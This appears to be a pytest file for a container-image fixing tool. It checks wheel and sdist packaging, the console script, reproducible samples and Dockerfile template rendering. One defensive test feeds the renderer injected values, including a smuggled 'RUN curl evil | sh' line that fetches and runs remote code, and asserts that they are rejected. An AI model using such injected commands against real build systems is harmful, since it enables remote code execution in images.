"""The wheel ships the templates, and the console script runs the README's main command."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tarfile
import zipfile

import pytest
from conftest import ROOT, SAMPLES

from kata_imagefix.errors import ImagefixError
from kata_imagefix.fix.render import render


def test_templates_are_found_from_a_normal_wheel_install(tmp_path):
    source = tmp_path / "src"
    shutil.copytree(ROOT, source, ignore=shutil.ignore_patterns(".venv", ".git", "samples", "*.egg-info",
                                                                 "build", ".ci", "__pycache__"))
    dist = tmp_path / "dist"
    subprocess.run([sys.executable, "-m", "pip", "wheel", "--no-deps", "--no-build-isolation", "-q",
                    "-w", str(dist), str(source)], check=True, capture_output=True, timeout=300)
    wheel = next(dist.glob("kata_imagefix-*.whl"))
    names = zipfile.ZipFile(wheel).namelist()
    for template in (ROOT / "templates").glob("*.j2"):
        assert f"kata_imagefix/templates/{template.name}" in names
    for module in (ROOT / "kata_imagefix").rglob("*.py"):  # every module of every subpackage ships
        assert str(module.relative_to(ROOT)) in names, module
        assert (module.parent / "__init__.py").exists(), f"{module.parent} is not a package"
    target = tmp_path / "site"
    subprocess.run([sys.executable, "-m", "pip", "install", "--no-deps", "-q", "--target", str(target),
                    str(wheel)], check=True, capture_output=True, timeout=300)
    code = ("import kata_imagefix.fix.render as r, kata_imagefix.templating as t; "
            "print(t.templates_dir()); "
            "print(r.render('user.Dockerfile.j2', dict(reason='t', base_ref='x@sha256:' + 'a'*64, "
            "base_name='x', base_digest='sha256:' + 'a'*64, change='c', user='185:185')))")
    env = {**os.environ, "PYTHONPATH": str(target)}
    out = subprocess.run([sys.executable, "-c", code], env=env, check=True, capture_output=True,
                         text=True, cwd=tmp_path, timeout=60).stdout
    assert out.splitlines()[0].startswith(str(target))
    assert "USER 185:185" in out


def test_template_values_cannot_inject_instructions():
    values = dict(reason="t", base_name="x", base_digest="d", change="c", user="185:185",
                  base_ref="spark:3.5.3")
    with pytest.raises(ImagefixError, match="break the Dockerfile"):
        render("user.Dockerfile.j2", {**values, "base_ref": "spark:3.5.3\nRUN curl evil | sh"})
    with pytest.raises(ImagefixError, match="refusing USER"):
        render("user.Dockerfile.j2", {**values, "user": "0 root"})
    with pytest.raises(ImagefixError, match="break the Dockerfile"):
        render("user.Dockerfile.j2", {**values, "user": "0\\"})
    quoted = render("user.Dockerfile.j2", {**values, "change": 'say "hi" $HOME'})
    assert 'io.imagefix.change="say \\"hi\\" \\$HOME"' in quoted  # the builder would expand a bare $
    with pytest.raises(ImagefixError, match="'base_ref' is undefined"):
        render("user.Dockerfile.j2", {k: v for k, v in values.items() if k != "base_ref"})


def test_console_script_runs_the_readme_main_command():
    script = shutil.which("imagefix", path=os.path.dirname(sys.executable))
    assert script, "the imagefix console script is installed next to python"
    result = subprocess.run([script, "scan", f"oci:{SAMPLES / 'spark'}:3.5.3"], capture_output=True,
                            text=True, timeout=60, cwd=ROOT)
    assert result.returncode == 1
    assert "KIF101" in result.stdout and "KIF201" in result.stdout
    assert "USER 185:185" in result.stdout


def test_samples_are_reproduced_byte_for_byte(tmp_path):
    sys.path.insert(0, str(SAMPLES))
    import make_samples

    write = make_samples.write_oci_layout
    write(tmp_path / "spark", {"3.5.3": make_samples.spark_sample()})
    committed = {p.relative_to(SAMPLES / "spark") for p in (SAMPLES / "spark").rglob("*") if p.is_file()}
    rebuilt = {p.relative_to(tmp_path / "spark") for p in (tmp_path / "spark").rglob("*") if p.is_file()}
    assert committed == rebuilt
    for rel in committed:
        assert (SAMPLES / "spark" / rel).read_bytes() == (tmp_path / "spark" / rel).read_bytes(), rel


def test_the_sdist_carries_the_license_and_what_its_tests_need_and_they_run(tmp_path):
    source = tmp_path / "src"  # a clean checkout: no venv, caches or earlier builds
    shutil.copytree(ROOT, source, ignore=shutil.ignore_patterns(
        ".venv", ".git", "*.egg-info", "build", "dist", "__pycache__", ".pytest_cache", "state"))
    built = subprocess.run([sys.executable, "-m", "build", "--sdist", "-o", str(tmp_path / "dist"),
                            str(source)], capture_output=True, text=True, timeout=600)
    if built.returncode != 0 and "Could not find a version that satisfies" in built.stdout + built.stderr:
        pytest.skip("no package index reachable for the build backend (setuptools>=77)")
    assert built.returncode == 0, built.stdout[-2000:] + built.stderr[-2000:]
    sdist = next((tmp_path / "dist").glob("kata_imagefix-*.tar.gz"))
    with tarfile.open(sdist) as tar:
        names = {name.split("/", 1)[1] for name in tar.getnames() if "/" in name}
        tar.extractall(tmp_path / "unpacked", filter="data")
    wanted = {"LICENSE", "README.md", "action.yml", "tests/conftest.py", "samples/make_samples.py",
              "samples/spark/index.json", "samples/Dockerfile.spark", ".ci/run"}
    wanted |= {str(p.relative_to(ROOT)) for folder in ("tests", "templates", "kata_imagefix")
               for p in (ROOT / folder).rglob("*") if p.is_file() and "__pycache__" not in p.parts}
    wanted |= {str(p.relative_to(ROOT)) for p in (ROOT / "samples").rglob("*") if p.is_file()
               and "__pycache__" not in p.parts}
    assert wanted <= names, sorted(wanted - names)
    assert "Apache License" in (ROOT / "LICENSE").read_text() and "License-File: LICENSE" in next(
        (tmp_path / "unpacked").glob("*/PKG-INFO")).read_text()
    tree = next((tmp_path / "unpacked").glob("kata_imagefix-*"))
    env = {**os.environ, "PYTHONPATH": str(tree)}  # the sdist's own package, not this checkout's
    tests = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider",
                            "tests/test_reference.py", "tests/test_sarif.py"],
                           cwd=tree, env=env, capture_output=True, text=True, timeout=600)
    assert tests.returncode == 0, tests.stdout[-3000:]
    assert " passed" in tests.stdout
    imported = subprocess.run([sys.executable, "-c", "import kata_imagefix; print(kata_imagefix.__file__)"],
                              env=env, cwd=tmp_path, capture_output=True, text=True).stdout
    assert imported.startswith(str(tree))
